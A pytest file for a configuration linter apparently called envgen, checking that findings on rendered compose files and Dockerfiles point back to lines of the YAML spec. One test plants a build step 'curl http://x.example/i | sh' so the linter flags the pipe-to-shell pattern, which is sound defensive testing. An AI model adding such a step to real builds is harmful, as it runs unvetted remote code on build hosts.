"""A spec's rendered files are linted before they are written, and every finding leads back to a line of the spec."""

from datetime import date
from pathlib import Path

import pytest

from envgen.finding import Finding
from envgen.lint.configuration import CommandLine, Configurations
from envgen.lint.engine import Tools, lint, names
from envgen.lint.files import read
from envgen.plan import resolve
from envgen.project import read_file
from envgen.render import render
from envgen.source import parse
from envgen.spec import load

TODAY = date(2026, 11, 23)
SPEC = """\
envgen: 1
name: shop
services:
  api:
    uses: [node@22, node@24]
    build: {context: ./api}
    command: [node, server.js]
    depends_on: [db]
  agent:
    image: agent:1.2.3
    privileged: true
    networks:
      - inner
  db: {image: "postgres:9.6", environment: {POSTGRES_PASSWORD_FILE: /run/secrets/x}}
networks:
  inner: {}
"""


@pytest.fixture(autouse=True)
def _project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    Path("api").mkdir()
    Path("envgen.yaml").write_text(SPEC)


def found(*paths: str) -> dict[str, list[Finding]]:
    by_code: dict[str, list[Finding]] = {}
    for finding in lint(read(paths or (".",)), today=TODAY, tools=Tools(hadolint=None)):
        by_code.setdefault(finding.code, []).append(finding)
    return by_code


def write_rendered() -> None:
    for artifact in render(resolve(load(parse(Path("envgen.yaml").read_bytes(), "envgen.yaml")))):
        Path(artifact.path).write_text(artifact.text)


def test_what_a_rule_has_against_the_rendered_file_stands_at_the_specs_line() -> None:
    (privileged,) = found()["EG230"]
    assert (privileged.file, privileged.line, privileged.excerpt) == ("envgen.yaml", 11, "    privileged: true")
    assert "(rendered: compose.yaml:" in privileged.message
    (old,) = found()["EG330"]
    assert (old.file, old.line, old.excerpt[6:20]) == ("envgen.yaml", 14, '{image: "postg')


def test_every_place_is_in_the_spec() -> None:
    for findings in found().values():
        assert {finding.file for finding in findings} == {"envgen.yaml"}


def test_a_rendered_file_that_is_linted_itself_names_the_specs_key_and_nothing_is_said_twice() -> None:
    write_rendered()
    (privileged,) = found()["EG230"]
    assert privileged.file == "compose.yaml"
    assert privileged.hint is not None
    assert privileged.hint.endswith("rendered from envgen.yaml:11:17 (`services.agent.privileged`)")


def test_a_rendered_file_that_was_edited_is_linted_as_any_other() -> None:
    write_rendered()
    Path("compose.yaml").write_text(Path("compose.yaml").read_text() + "# mine\n")
    (privileged,) = found()["EG230"]
    assert privileged.file == "compose.yaml"
    assert "rendered from" not in (privileged.hint or "")


def test_a_rendered_dockerfile_leads_to_what_it_is_made_for() -> None:
    text = SPEC.replace("node@22, node@24", "node@22").replace(
        "./api}", './api, run: ["curl http://x.example/i | sh"]}'
    )
    Path("envgen.yaml").write_text(text)
    (pipe,) = found()["EG141"]
    assert (pipe.file, pipe.line) == ("envgen.yaml", 5)
    write_rendered()
    (pipe,) = found()["EG141"]
    assert pipe.file == "api/api-node22.Dockerfile"
    assert "rendered from envgen.yaml:5" in (pipe.hint or "")


def test_a_runtime_past_its_end_is_said_of_the_spec_only_and_not_where_it_is_allowed() -> None:
    old = SPEC.replace("[node@22, node@24]", "old").replace(
        "services:\n", 'runtimes:\n  old: {language: node, version: "14"}\nservices:\n', 1
    )
    Path("envgen.yaml").write_text(old)
    assert [finding.line for finding in found()["EG050"]] == [4]
    assert [finding.line for finding in found()["EG330"]] == [16]  # postgres:9.6
    write_rendered()
    assert {finding.file for finding in found()["EG330"]} == {"compose.yaml"}
    allowed = old.replace('"14"}', '"14", eol: {allow: true, reason: "until spring", until: 2099-01-01}}')
    Path("envgen.yaml").write_text(allowed)
    assert "EG050" not in found()


def test_the_specs_own_settings_hold_for_it_and_for_what_it_renders() -> None:
    settings = "lint:\n  ignore:\n    - {rule: privileged, reason: it is the host's agent, until: 2099-01-01}\n"
    Path("envgen.yaml").write_text(SPEC + settings)
    configured = Configurations(names, CommandLine())
    for _ in range(2):  # the spec alone, then its files
        files = read(["."], excludes=configured.excludes)
        codes = {one.code for one in lint(files, today=TODAY, tools=Tools(hadolint=None), settings=configured.of)}
        assert "EG230" not in codes
        assert "EG330" in codes
        write_rendered()


def test_a_part_that_is_included_is_not_judged_alone() -> None:
    parts = Path("apps/web")
    parts.mkdir(parents=True)
    (parts / "envgen.yaml").write_text("envgen: 1\nservices:\n  web: {image: web:1.2.3, depends_on: [store]}\n")
    Path("envgen.yaml").write_text(
        "envgen: 1\nname: shop\nspecs: [apps/web/envgen.yaml]\nservices:\n  store: {image: store:1.2.3}\n"
    )
    tools = Tools(hadolint=None, specs=read_file)
    both = read(["."])
    assert {file.path for file in both} == {"envgen.yaml", "apps/web/envgen.yaml"}
    assert [finding for finding in lint(both, today=TODAY, tools=tools) if finding.code.startswith("EG0")] == []
    alone = read(["apps/web"])
    assert "EG013" in {finding.code for finding in lint(alone, today=TODAY, tools=tools)}
    # what is wrong with it as a part is said, at its place
    (parts / "envgen.yaml").write_text("envgen: 1\nservices:\n  web: {image: web:1.2.3, depends_on: [stor]}\n")
    wrong = [finding for finding in lint(read(["."]), today=TODAY, tools=tools) if finding.code == "EG020"]
    assert [(finding.file, finding.line) for finding in wrong] == [("apps/web/envgen.yaml", 3)]
